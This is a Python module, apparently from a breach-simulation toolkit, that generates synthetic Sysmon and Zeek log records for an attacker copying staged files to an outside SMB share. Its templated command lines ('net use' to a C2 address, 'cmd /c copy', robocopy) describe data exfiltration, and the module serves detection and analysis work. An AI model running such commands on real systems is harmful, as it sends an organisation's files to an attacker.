"""The staged files copied to a share on a server outside: `net use \\\\<address>\\<share>` with the server's
account, then `copy` per file (cmd's own command) or one robocopy, then `net use /delete`. One SMB session
carries the files: the SMB client is the kernel's redirector, so Sysmon's network connection is the System
process's (pid 4), not the command's. The firewall lets 445 out (the reason this works at all)."""

from __future__ import annotations

import numpy as np

from breachscope.simulate import clock
from breachscope.simulate.attack import IMAGE, Attack, StoryInputs
from breachscope.simulate.attack_file import SmbExfiltration
from breachscope.simulate.steps.edge import outbound

TAG = "attack:exfiltration"
NET = "C:\\Windows\\System32\\net.exe"
ROBOCOPY = "C:\\Windows\\System32\\Robocopy.exe"
RATE = 2_400_000  # bytes per second of an upload through the edge
WRITE = 65_536  # SMB2 WRITE size of copy and robocopy: a request header per chunk


def smb_exfiltration(w: Attack, p: SmbExfiltration, _: StoryInputs) -> None:
    h, ext = w.host(p.host), w.spec.external
    server = p.address or ext.c2_address
    files = [(f.name, f.size) for f in p.files] or [(f.name, f.size) for f in w.out.staged]
    if not files:
        raise ValueError("smb_exfiltration: no staged files to send (a staging step must come first)")
    user, parent = w.user_of(p.actor), w.parent_of(p.actor)
    folder, unc = p.folder.rstrip("\\"), f"\\\\{server}\\{p.share}"
    t = w.at(p.at)
    w.proc(t, h.name, NET, f"net.exe use {unc} {w.rng.bytes(5).hex()} /user:{p.account}", parent, user, TAG)
    start, sport = t + 180_000, w.port()  # the session opens with the mapping and stays until /delete
    _system_connection(w, start, h.name, h.ip, sport, server)
    uid = w.s.uid()
    ids = {"uid": uid, "id.orig_h": h.ip, "id.orig_p": str(sport), "id.resp_h": server, "id.resp_p": "445"}
    share_path = f"\\\\\\\\{server}\\\\{p.share}"
    # a disk share's tree connect as the noise's: service A:, and NTFS (Samba's default fstype says so too)
    w.s.zeek("smb_mapping", start + 150_000, {**ids, "path": share_path, "service": "A:",
                                              "native_file_system": "NTFS", "share_type": "DISK"}, TAG)
    at = start + int(w.rng.integers(8, 40)) * clock.US
    if p.tool == "robocopy":
        names = " ".join(n for n, _ in files)
        w.proc(at, h.name, ROBOCOPY, f"robocopy.exe {folder} {unc} {names} /R:1 /W:1 /NP", parent, user, TAG)
    total = 0
    for name, size in files:
        if p.tool == "copy":
            w.proc(at, h.name, IMAGE["cmd"], f"cmd.exe /c copy /Y \"{folder}\\{name}\" {unc}\\", parent, user, TAG)
        seconds = max(0.05, size / RATE)
        mtime = clock.epoch_s6(np.array([at]))[0].as_py()
        w.s.zeek("smb_files", at + 120_000, {
            **ids, "fuid": w.s.uid(b"F"), "action": "SMB::FILE_WRITE", "path": share_path, "name": name,
            "size": str(size), "times.modified": mtime, "times.accessed": mtime, "times.created": mtime,
            "times.changed": mtime}, TAG, name)
        at += 120_000 + int(seconds * clock.US) + int(w.rng.integers(200_000, 900_000))
        total += size
    end = at + int(w.rng.integers(3, 15)) * clock.US
    w.proc(end, h.name, NET, f"net.exe use {unc} /delete /y", parent, user, TAG)
    seconds = (end + 60_000 - start) / clock.US
    # SMB2 around the data: negotiate, session setup, tree connect; per file create, close, write headers
    up = total + 2_900 + sum(900 + 120 * (size // WRITE + 1) for _, size in files)
    down = 3_400 + sum(700 + 80 * (size // WRITE + 1) for _, size in files)
    w.s.conn(start, h.ip, sport, server, 445, "tcp", "smb,gssapi", seconds, up, down, tag=TAG, uid=uid)
    outbound(w, start, seconds, h.ip, sport, server, 445, up, down, TAG)
    w.exfiltrated("smb_exfiltration", h, total, server, None)
    w.note(t, "exfiltration", f"{len(files)} files ({total} bytes) copied from {w.called(h)} over SMB to the share "
           f"{unc} outside")


def _system_connection(w: Attack, ts: int, host: str, ip: str, sport: int, server: str) -> None:
    """Sysmon 3 of the redirector's connection (the System process)."""
    w.s.win(ts, host, 3, [
        ("RuleName", "-"), ("UtcTime", _utc(ts)), ("ProcessGuid", "{" + w.rng.bytes(16).hex() + "}"),
        ("ProcessId", "4"), ("Image", "System"), ("User", "NT AUTHORITY\\SYSTEM"), ("Protocol", "tcp"),
        ("Initiated", "true"), ("SourceIsIpv6", "false"), ("SourceIp", ip), ("SourceHostname", f"{host}.{w.fqdn}"),
        ("SourcePort", str(sport)), ("SourcePortName", "-"), ("DestinationIsIpv6", "false"), ("DestinationIp", server),
        ("DestinationHostname", "-"), ("DestinationPort", "445"), ("DestinationPortName", "microsoft-ds")], TAG,
        sysmon=True)


def _utc(us: int) -> str:
    return clock.sysmon_utc(np.array([us]))[0].as_py()
